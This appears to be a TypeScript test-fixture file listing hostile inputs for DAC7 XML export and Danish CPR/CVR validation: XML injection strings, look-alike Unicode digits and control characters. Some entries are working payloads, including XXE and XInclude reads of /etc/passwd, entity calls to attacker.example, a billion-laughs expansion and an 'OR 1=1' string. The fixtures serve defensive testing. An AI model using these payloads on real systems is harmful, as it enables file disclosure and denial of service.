/**
 * Inputs an attacker would give as a seller's name or address to break the DAC7 files
 * (cms/domain/dac7/files.ts), or as a CPR/CVR number to slip past the digit checks
 * (cms/domain/dac7/identifiers.ts). Gathered from the XML families of PayloadsAllTheThings (XXE,
 * entity expansion, CDATA break-outs, comment and processing-instruction injection) and the
 * Unicode look-alike digit ranges (UTS #39 confusables: every script's decimal digits).
 */
export const xmlPayloads: string[] = [
  // Markup and entities.
  '<Name>Evil</Name>',
  '</dpi:Name><dpi:TIN issuedBy="DK">0101901234</dpi:TIN><dpi:Name>',
  '&amp;',
  '&lt;script&gt;',
  '&#60;b&#62;',
  '&#x3C;',
  '&xxe;',
  '&ent',
  '& Co.',
  "Smith & Søn's",
  '<!DOCTYPE foo [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><foo>&xxe;</foo>',
  '<!ENTITY % xxe SYSTEM "http://attacker.example/evil.dtd"> %xxe;',
  '<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;">]><lolz>&lol2;</lolz>',
  '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" parse="text" href="file:///etc/passwd"/>',
  // CDATA break-outs.
  ']]>',
  '<![CDATA[',
  '<![CDATA[<script>alert(1)</script>]]>',
  'a]]><b>x</b><![CDATA[b',
  // Comments and processing instructions.
  '<!-- -->',
  '-->',
  '<!--',
  '<?xml version="1.0"?>',
  '<?xml-stylesheet href="http://attacker.example/x.xsl"?>',
  // Attribute break-outs.
  '" issuedBy="XX',
  "' unknown='true",
  '"/><dpi:TIN unknown="true">NOTIN</dpi:TIN><x a="',
  // Line breaks and characters XML 1.0 forbids.
  'Vestergade 1\r\nEvil: header',
  'line\rbreak',
  'tab\there',
  'nul\u0000byte',
  'bell\u0007',
  'esc\u001b[31m',
  '\uFFFE\uFFFF',
  'lone \uD800 surrogate',
  'lone \uDC00 low',
  'emoji 😀 pair',
  '\uFEFFbom',
  'right-to-left \u202Eevil',
  'next\u0085line',
  'sep\u2028arator',
];

/** Strings that look like the digits 0–9 but are not ASCII: a CPR or CVR number must be refused with any of them. */
export const lookAlikeDigits: { script: string; zero: number }[] = [
  { script: 'full-width', zero: 0xff10 },
  { script: 'Arabic-Indic', zero: 0x0660 },
  { script: 'Extended Arabic-Indic', zero: 0x06f0 },
  { script: 'Devanagari', zero: 0x0966 },
  { script: 'Bengali', zero: 0x09e6 },
  { script: 'Thai', zero: 0x0e50 },
  { script: 'Mathematical bold', zero: 0x1d7ce },
  { script: 'Mathematical monospace', zero: 0x1d7f6 },
  { script: 'NKo', zero: 0x07c0 },
  { script: 'Myanmar', zero: 0x1040 },
];

/** `digits` written in another script's digits: "0101901234" → "٠١٠١٩٠١٢٣٤". */
export const inScript = (digits: string, zero: number) => [...digits].map((d) => String.fromCodePoint(zero + Number(d))).join('');

/** Other ways to smuggle something that is not ten ASCII digits. */
export const notQuiteDigits: string[] = [
  '0101901234\r\n',
  '0101901234\u0000',
  '010190\u200B1234',
  '0101901234 OR 1=1',
  '０101901234',
  '0101901234\u2060',
  '¹²³⁴⁵⁶⁷⁸⁹⁰',
  '①②③④⑤⑥⑦⑧⑨⓪',
  '0x101901234',
  '+0101901234',
  '01019012345',
  ' 0101901234 x',
];
